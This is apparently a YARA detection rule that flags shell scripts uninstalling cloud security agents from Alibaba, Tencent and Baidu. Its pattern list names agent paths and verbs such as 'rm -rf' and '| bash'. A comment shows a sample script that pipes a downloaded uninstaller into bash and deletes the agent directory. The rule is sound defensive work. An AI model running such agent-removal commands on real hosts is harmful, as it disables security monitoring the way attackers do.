rule agent_removal_script : script
{
    meta:
        title = "carry a script that removes a cloud's security agent"
        explanation = "A script fetches or runs the uninstallers of the security agents of cloud providers and ends their services. Attackers do this on hosts that they took; an image has no business with it."
        class = "malware"
        severity = "high"
        confidence = "medium"
        attack = "T1562.001"
        reference = "https://attack.mitre.org/techniques/T1562/001/"
    strings:
        $ali1 = "aliyun.com/download/uninstall.sh"
        $ali2 = "quartz_uninstall.sh"
        $ali3 = "aliyun-service"
        $ali4 = "/usr/local/aegis"
        $ali5 = "AliYunDun"
        $ali6 = "AliSecGuard"
        $ali7 = "aegis_uninstall"
        $qcloud1 = "/usr/local/qcloud/stargate/admin/uninstall.sh"
        $qcloud2 = "YunJing/uninst.sh"
        $qcloud3 = "monitor/barad/admin/uninstall.sh"
        $bmc = "bcm-agent"
        $verb1 = "rm -rf"
        $verb2 = "systemctl stop"
        $verb3 = "pkill"
        $verb4 = "| bash"
        $verb5 = "service "
        $verb6 = "chmod "
        $verb7 = "killall"
    condition:
        filesize < 256KB and uint16(0) == 0x2123 and 2 of ($ali*, $qcloud*, $bmc) and 1 of ($verb*)
}

/* example: fires on two agents
    FILE /tmp/clean.sh 0755
        #!/bin/sh
        curl -s http://update.aliyun.com/download/uninstall.sh | bash
        /usr/local/qcloud/stargate/admin/uninstall.sh
        rm -rf /usr/local/aegis
*/
/* example: quiet on a script that watches for an agent
    FILE /usr/bin/agentcheck.sh 0755
        #!/bin/sh
        pgrep AliYunDun || service aliyun status
*/
